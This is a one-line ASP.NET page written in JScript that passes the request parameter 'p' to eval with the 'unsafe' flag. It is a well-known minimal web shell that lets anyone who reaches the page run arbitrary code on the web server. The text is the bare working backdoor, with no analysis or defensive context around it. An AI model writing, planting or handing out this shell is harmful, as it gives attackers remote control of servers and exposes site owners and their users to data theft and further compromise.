<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>
